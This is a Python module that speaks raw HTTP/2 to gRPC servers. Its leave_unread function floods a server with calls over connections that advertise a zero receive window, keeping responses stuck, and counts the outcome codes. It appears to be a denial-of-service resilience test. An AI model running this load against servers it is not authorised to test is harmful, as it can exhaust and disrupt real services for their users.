"""HTTP/2 as an attacker speaks it: frames by hand, as fast as Python writes them."""

import asyncio
import contextlib
import socket
import struct
import time
from collections import Counter
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Self

from hpack import Decoder, Encoder, HPACKError

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0,
    0x1,
    0x3,
    0x4,
    0x6,
    0x7,
    0x8,
    0x9,
)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 0x4, 0x5
CANCEL = 0x8
_USUAL_WINDOW, _USUAL_FRAME = 65_535, 16_384
# Answers to pings are sent between frames: without them servers close the connection.
_LARGEST_FRAME = 2**18
_READ_BYTES = 2**16


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """A frame of any kind."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def settings(**values: int) -> bytes:
    """A frame of settings, such as `initial_window_size=0`."""
    numbers = {"initial_window_size": INITIAL_WINDOW_SIZE, "max_frame_size": MAX_FRAME_SIZE}
    return frame(
        SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items())
    )


def call_headers(path: str, token: str = "", extra: Iterable[tuple[str, str]] = ()) -> bytes:
    """The headers of a gRPC call, compressed so that the same bytes may be sent any number of times."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers")]
    fields += [("content-type", "application/grpc"), *extra]
    if token:
        fields.append(("authorization", f"Bearer {token}"))
    return Encoder().encode(fields)


def grpc_message(data: bytes, *, compressed: bool = False) -> bytes:
    """A message with gRPC's prefix."""
    return struct.pack(">BI", compressed, len(data)) + data


@dataclass(slots=True)
class _Stream:
    window: int
    fields: dict[str, str] = field(default_factory=dict[str, str])
    reset: int | None = None
    ended: asyncio.Event = field(default_factory=asyncio.Event)


class RawConnection:
    """One connection to a server, which reads what arrives, for flow control and for statuses."""

    def __init__(self, connection: socket.socket) -> None:
        self._socket = connection
        self._loop = asyncio.get_running_loop()
        self._is_writing = asyncio.Lock()
        self._decoder = Decoder()
        self._streams: dict[int, _Stream] = {}
        self._next_stream = 1
        self._window = _USUAL_WINDOW
        self._stream_window = _USUAL_WINDOW
        self._frame_size = _USUAL_FRAME
        self._changed = asyncio.Event()
        self.is_closed = False

    @classmethod
    @asynccontextmanager
    async def open(cls, host: str, port: int, **values: int) -> AsyncIterator[Self]:
        """A connection with these settings; it is dropped in the end. Raises `OSError`."""
        with socket.socket() as connected:
            connected.setblocking(False)
            await asyncio.get_running_loop().sock_connect(connected, (host, port))
            connection = cls(connected)
            await connection._write(PREFACE + settings(**values))
            reading = asyncio.create_task(connection._read())
            try:
                yield connection
            finally:
                reading.cancel()
                with contextlib.suppress(asyncio.CancelledError):
                    await reading

    async def start(self, headers: bytes) -> int:
        """Begin a call; returns its stream. Raises `OSError` where the server has gone."""
        stream = self._next_stream
        self._next_stream += 2
        self._streams[stream] = _Stream(self._stream_window)
        await self._write(frame(HEADERS, END_HEADERS, stream, headers))
        return stream

    async def send(self, stream: int, data: bytes, *, is_last: bool) -> bool:
        """Send data as fast as the server's windows allow; False where it ended the stream before that.

        Raises `OSError` where the server has gone.
        """
        state, view = self._streams[stream], memoryview(data)
        while view and not state.ended.is_set() and not self.is_closed:
            size = min(len(view), self._frame_size, self._window, state.window)
            if size <= 0:
                self._changed.clear()
                await self._changed.wait()
                continue
            self._window -= size
            state.window -= size
            flags = END_STREAM if is_last and size == len(view) else 0
            await self._write(struct.pack(">I", size)[1:] + struct.pack(">BBI", DATA, flags, stream), view[:size])
            view = view[size:]
        return not view

    async def status(self, stream: int, timeout_s: float) -> str:
        """How the call ended: the number of its status, or what happened instead."""
        state = self._streams[stream]
        try:
            async with asyncio.timeout(timeout_s):
                await state.ended.wait()
        except TimeoutError:
            return "open"
        if "grpc-status" in state.fields:
            return state.fields["grpc-status"]
        return "closed" if state.reset is None else f"reset {state.reset}"

    def message(self, stream: int) -> str:
        """The text that came with the status."""
        return self._streams[stream].fields.get("grpc-message", "")

    async def _write(self, *parts: bytes | memoryview) -> None:
        """Frames of several streams must not be mixed, however long the socket takes."""
        async with self._is_writing:
            for part in parts:
                await self._loop.sock_sendall(self._socket, part)

    async def _read(self) -> None:
        buffer = bytearray()
        try:
            while data := await self._loop.sock_recv(self._socket, _READ_BYTES):
                buffer += data
                while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                    end = 9 + int.from_bytes(buffer[:3], "big")
                    kind, flags, stream = struct.unpack(">BBI", buffer[3:9])
                    answer = self._take(kind, flags, stream, bytes(buffer[9:end]))
                    del buffer[:end]
                    if answer:
                        await self._write(answer)
        except (OSError, HPACKError):
            pass
        finally:
            self.is_closed = True
            self._changed.set()
            for state in self._streams.values():
                state.ended.set()

    def _take(self, kind: int, flags: int, stream: int, body: bytes) -> bytes:
        """Note what a frame says; returns what is to be answered."""
        state, answer = self._streams.get(stream), b""
        if kind == SETTINGS and not flags & ACK:
            self._take_settings(body)
            answer = frame(SETTINGS, ACK, 0)
        elif kind == WINDOW_UPDATE:
            increment = struct.unpack(">I", body)[0]
            if stream == 0:
                self._window += increment
            elif state is not None:
                state.window += increment
            self._changed.set()
        elif kind == PING and not flags & ACK:
            answer = frame(PING, ACK, 0, body)
        elif kind == DATA and body:
            update = struct.pack(">I", len(body))
            answer = frame(WINDOW_UPDATE, 0, 0, update) + frame(WINDOW_UPDATE, 0, stream, update)
        elif kind == HEADERS:
            # gRPC's servers neither pad nor cut their headers.
            fields = {str(name): str(value) for name, value in self._decoder.decode(body)}
            if state is not None:
                state.fields |= fields
        elif kind == RST_STREAM and state is not None:
            state.reset = struct.unpack(">I", body)[0]
        if state is not None and (kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM)):
            state.ended.set()
            self._changed.set()
        return answer

    def _take_settings(self, body: bytes) -> None:
        for name, value in struct.iter_unpack(">HI", body):
            if name == INITIAL_WINDOW_SIZE:
                for state in self._streams.values():
                    state.window += value - self._stream_window
                self._stream_window = value
            elif name == MAX_FRAME_SIZE:
                self._frame_size = min(value, _LARGEST_FRAME)
        self._changed.set()


def code_names(statuses: Counter[str]) -> dict[str, int]:
    """Counts by the name of the code where the status is a number."""
    import grpc

    names = {str(code.value[0]): code.name for code in grpc.StatusCode}
    return {names.get(status, status): count for status, count in statuses.items()}


async def leave_unread(
    host: str, port: int, seconds: float, headers: bytes, message: bytes, num_connections: int, num_calls: int
) -> Counter[str]:
    """Make the same calls again and again on connections that let the server send nothing of the answers."""
    outcome, end = Counter[str](), time.monotonic() + seconds

    async def connect() -> None:
        while time.monotonic() < end:
            async with RawConnection.open(host, port, initial_window_size=0) as connection:
                try:
                    streams = [await connection.start(headers) for _ in range(num_calls)]
                    await asyncio.gather(*(connection.send(stream, message, is_last=True) for stream in streams))
                except OSError:
                    outcome["not sent"] += 1
                    continue
                await connection.status(streams[0], max(0.01, end - time.monotonic()))
                # Those that are refused at once have ended; the others are open until the connection is closed.
                for stream in streams:
                    outcome[await connection.status(stream, 0.01)] += 1
            await asyncio.sleep(0.1)

    await asyncio.gather(*(connect() for _ in range(num_connections)))
    return Counter(code_names(outcome))
